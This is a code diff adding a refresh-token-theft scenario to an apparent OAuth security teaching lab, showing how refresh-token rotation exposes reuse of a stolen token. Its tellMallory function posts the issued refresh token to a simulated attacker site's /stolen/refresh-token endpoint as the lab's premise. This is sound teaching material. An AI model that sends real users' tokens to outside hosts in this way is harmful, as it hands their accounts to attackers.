@@ -13,7 +13,7 @@ import { type Request, Router } from 'express';
 import { NotFound, optionalParam, type ParamSource } from '@oauth-demo/tokens';
 import { csrfToken, verifyCsrf } from '@oauth-demo/web';
 import type { AppContext } from '../context.js';
-import { buildLabAuthorizationRequest, redeemLabCode } from '../lab/lab_client.js';
+import { buildLabAuthorizationRequest, exchangeLabCodeForTokens, redeemLabCode, refreshLab } from '../lab/lab_client.js';
 import { SCENARIOS, type Scenario, findScenario } from '../lab/scenarios.js';
 import { type LabState, addPending, isDefenseOn, newLabState, recordOutcome, takePending } from '../lab/state.js';
 
@@ -48,6 +48,22 @@ export function labRoutes(ctx: AppContext): Router {
       return Array.isArray(body.loot) ? body.loot : [];
     } catch {
       return null; // her site is not running
+    }
+  }
+
+  /** A back-channel call to Mallory's site for the lab's premises (scenario 7: handing her the stolen token). */
+  async function tellMallory(path: string, form: Record<string, string>): Promise<{ success: boolean; summary: string } | null> {
+    try {
+      const response = await fetch(`${attacker.internalUrl}${path}`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/x-www-form-urlencoded' },
+        body: new URLSearchParams(form).toString(),
+        signal: AbortSignal.timeout(ctx.config.httpTimeoutMs),
+      });
+      const body = (await response.json()) as { success?: unknown; summary?: unknown };
+      return typeof body.summary === 'string' ? { success: body.success === true, summary: body.summary } : null;
+    } catch {
+      return null;
     }
   }
 
@@ -177,6 +193,21 @@ export function labRoutes(ctx: AppContext): Router {
       });
       return;
     }
+    if (pending.scenario === 'refresh') {
+      const exchanged = await exchangeLabCodeForTokens(ctx.tokenEndpoint, registration, code, pending.code_verifier);
+      if (!exchanged.ok) throw new NotFound(`The lab copy could not get its tokens: ${exchanged.error.code}. Run the attack again.`);
+      const refreshToken = exchanged.tokens.refresh_token;
+      if (!refreshToken) {
+        recordOutcome(lab, 'refresh', pending.defenseOn, { attackWorked: false, summary: 'No refresh token was issued (offline access was not allowed): nothing to steal.', details: [] });
+        res.redirect(303, '/lab/refresh#results');
+        return;
+      }
+      lab.refresh = { refreshToken, defenseOn: pending.defenseOn, createdAt: Date.now() };
+      // The theft (the premise, not the lesson): the lab hands the refresh token to Mallory's site, which uses it.
+      const theft = await tellMallory('/stolen/refresh-token', { run: lab.run, refresh_token: refreshToken, endpoint: pending.defenseOn ? 'real' : 'lab' });
+      res.render('lab_refresh', { title: 'Connected, and robbed', activeSteps: [6], theft, csrf: csrfToken(req) });
+      return;
+    }
     throw new NotFound('This scenario is not built yet.');
   });
 
@@ -233,6 +264,14 @@ export function labRoutes(ctx: AppContext): Router {
       res.redirect(303, request.url);
       return;
     }
+    if (scenario.id === 'refresh') {
+      // You connect the public lab copy with offline_access, so it gets a refresh token.
+      const metadata = await ctx.metadata.get();
+      const request = buildLabAuthorizationRequest(metadata, registration, 'refresh', { publicClient: true, pkce: true, defenseOn, scope: 'photos.read offline_access' });
+      addPending(lab, request.pending);
+      res.redirect(303, request.url);
+      return;
+    }
     if (scenario.id === 'pkce') {
       // You import with the lab copy as a public client; PKCE only if the switch is on.
       const metadata = await ctx.metadata.get();
@@ -264,6 +303,25 @@ export function labRoutes(ctx: AppContext): Router {
     );
     delete lab.started![scenario.id];
     res.redirect(303, `/lab/${scenario.id}#results`);
+  });
+
+  // Scenario 7, later: the lab copy refreshes, as it does when its access token expires; then Mallory tries again.
+  router.post('/lab/refresh/finish', verifyCsrf, async (req, res) => {
+    const lab = labOf(req);
+    const held = lab.refresh;
+    delete lab.refresh;
+    if (!held) throw new NotFound('There is no refresh token waiting: run the attack again.');
+    const mine = await refreshLab(ctx.tokenEndpoint, registration, held.refreshToken, held.defenseOn);
+    const again = await tellMallory('/stolen/refresh-again', { run: lab.run });
+    const yours = mine.ok
+      ? 'Your printer refreshed: it got a new access token and nothing looked wrong.'
+      : `Your printer must connect again: its refresh was refused (${mine.error.code}). The auth server saw a refresh token used a second time, so a copy exists somewhere; it revoked the whole family, yours and the thief’s (RFC 9700 §4.14.2).`;
+    recordOutcome(lab, 'refresh', held.defenseOn, {
+      attackWorked: again?.success === true,
+      summary: again?.success ? `Mallory still has access. ${again.summary}` : `Mallory lost access. ${again ? again.summary : 'Her site did not answer.'}`,
+      details: [yours, 'Her first use, right after the theft, worked either way: rotation detects a stolen token on its next reuse; it cannot prevent the first one.'],
+    });
+    res.redirect(303, '/lab/refresh#results');
   });
 
   router.post('/lab/pkce/finish', verifyCsrf, async (req, res) => {
